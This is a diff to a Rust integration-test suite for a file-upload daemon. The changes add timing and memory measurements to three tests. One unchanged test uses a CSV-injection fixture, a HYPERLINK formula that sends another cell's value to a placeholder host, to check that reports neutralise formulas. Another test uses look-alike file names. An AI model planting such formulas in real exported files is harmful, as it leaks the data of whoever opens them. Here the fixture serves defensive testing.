@@ -210,6 +210,7 @@ crate::on_both_backends!(a_full_disk_that_frees_again_loses_nothing_and_needs_no
 /// check` prints the file's escape sequences escaped, never raw.
 async fn reports_open_safely_in_a_spreadsheet_and_terminals_see_no_escapes(db: TestDb) {
     let d = TestDaemon::spawn(&db, &[TestAccount::new("acme")], &[]).await;
+    let started = std::time::Instant::now();
     let file = d.dir.join("formulas.csv");
     let csv = "ref,email\n\
                \"=HYPERLINK(\"\"http://x/?\"\"&B3,\"\"Click\"\")\",a@example.com\n\
@@ -248,6 +249,12 @@ async fn reports_open_safely_in_a_spreadsheet_and_terminals_see_no_escapes(db: T
     let printed = String::from_utf8_lossy(&out.stdout);
     assert!(printed.contains("invalid_ref"), "{}", describe(&out));
     assert!(!printed.contains('\x1b') && !printed.contains('\x07'), "raw escapes printed: {printed:?}");
+    measured(&d, "formula and escape refs: upload, report, intake check", started);
+}
+
+/// Prints a figure for BENCHMARKS.md: seconds since `started`, the daemon's peak RSS.
+fn measured(d: &TestDaemon, what: &str, started: std::time::Instant) {
+    eprintln!("measured: {what}: {:.1} s, peak RSS {} MiB", started.elapsed().as_secs_f64(), d.peak_rss_mib());
 }
 
 /// The summary of `stem` in acme's outbox.
@@ -263,6 +270,7 @@ crate::on_both_backends!(reports_open_safely_in_a_spreadsheet_and_terminals_see_
 /// left unprocessed. Client temp names upload as ever.
 async fn names_that_only_look_like_csv_are_refused_at_upload(db: TestDb) {
     let d = TestDaemon::spawn(&db, &[TestAccount::new("acme")], &[]).await;
+    let started = std::time::Instant::now();
     let file = d.dir.join("n.csv");
     crate::support::write_customers(&file, "n-", 2);
     for name in ["x.csv ", "y.csv.", "z.csv\u{200B}", "w.\u{0441}sv"] {
@@ -288,6 +296,7 @@ async fn names_that_only_look_like_csv_are_refused_at_upload(db: TestDb) {
     let out = d.sftp("acme", "rename /customers/n.csv.part /customers/n.csv\n").await;
     assert!(out.status.success(), "{}", describe(&out));
     assert_eq!(d.summary("acme", "n", REPORT).await["created"], 2);
+    measured(&d, "4 look-alike names refused by put and by rename (8 sessions)", started);
 }
 
 crate::on_both_backends!(names_that_only_look_like_csv_are_refused_at_upload);
@@ -491,6 +500,7 @@ crate::on_both_backends!(a_hung_webhook_receiver_slows_only_its_own_account);
 /// answers (it is published on close). Every copy gets its report.
 async fn sshfs_copies_into_customers_are_uploads(db: TestDb) {
     let d = TestDaemon::spawn(&db, &[TestAccount::new("acme")], &[]).await;
+    let started = std::time::Instant::now();
     let proxy =
         crate::support::DelayProxy::start(d.addr.as_ref().unwrap().parse().unwrap(), Duration::from_millis(10)).await;
     let mount = tempfile::tempdir().unwrap();
@@ -541,6 +551,7 @@ async fn sshfs_copies_into_customers_are_uploads(db: TestDb) {
         "one job per copy, no empty extra: {:?}",
         jobs.iter().map(|j| &j.file_name).collect::<Vec<_>>()
     );
+    measured(&d, "sshfs cp, mv, rsync, rsync --inplace through 20 ms, 4 reports", started);
 }
 
 crate::on_both_backends!(sshfs_copies_into_customers_are_uploads);
